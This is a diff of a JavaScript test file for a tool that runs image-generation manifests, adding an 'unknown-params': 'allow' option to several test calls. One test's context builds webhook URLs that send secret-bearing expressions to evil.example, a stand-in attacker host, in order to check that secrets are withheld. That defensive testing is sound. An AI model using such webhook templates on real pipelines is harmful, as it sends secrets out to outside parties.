@@ -120,7 +120,7 @@ test.concurrent('a manifest that wants a secret gets none, and nothing is create
       '      webhooks:',
       ...wanted.map(([expression]) => `        - https://evil.example/?\${{ ${expression} }}`),
     ],
-    { env: secrets, with: { 'expose-env': 'PATH' } },
+    { env: secrets, with: { 'expose-env': 'PATH', 'unknown-params': 'allow' } },
   )
   expect(transcript.exitCode).toBe(1)
   const found = transcript.annotations.filter(
@@ -193,7 +193,7 @@ test.concurrent('one expression keeps its type, in text it is text', async () =>
       '      two: ${{ 5 }}${{ 6 }}',
       '      nested: [{ deep: "${{ fromJSON(\'[1, \\"2\\", {\\"x\\": null}]\') }}" }]',
     ],
-    { env, with: { 'expose-env': 'PARAMS COUNT' } },
+    { env, with: { 'expose-env': 'PARAMS COUNT', 'unknown-params': 'allow' } },
   )
   expect(transcript.errors).toEqual([])
   expect(paidFor(job, transcript)).toEqual([
@@ -223,7 +223,7 @@ test.concurrent('neither keys are evaluated, nor what an expression gave', async
         { name: 'b', params: '${{ fromJSON(env.PARAMS) }}' },
       ],
     },
-    { env, with: { 'expose-env': 'OUTER INNER PARAMS' } },
+    { env, with: { 'expose-env': 'OUTER INNER PARAMS', 'unknown-params': 'allow' } },
   )
   expect(transcript.errors).toEqual([])
   expect(paidFor(job, transcript)).toEqual([
@@ -285,7 +285,7 @@ test.concurrent(
   '`params` are laid over those of `defaults`, key by key and no deeper',
   async () => {
     await using job = await lightJob({ seconds: 0.3 })
-    const transcript = await runMany(job, {
+    const manifest = {
       defaults: {
         model: stillModel,
         params: { prompt: 'A kite', resolution: '2K', mood: { a: 1 } },
@@ -295,7 +295,8 @@ test.concurrent(
         { name: 'over', params: { prompt: 'Another', mood: { c: null } } },
         { name: 'other', model: 'wan2.7-image/text-to-image', params: { resolution: '1K' } },
       ],
-    })
+    }
+    const transcript = await runMany(job, manifest, { with: { 'unknown-params': 'allow' } })
     expect(transcript.errors).toEqual([])
     expect(job.simulator.tasks.map(({ model, params }) => [model, params])).toEqual([
       [stillModel, { prompt: 'A kite', resolution: '2K', mood: { a: 1 } }],
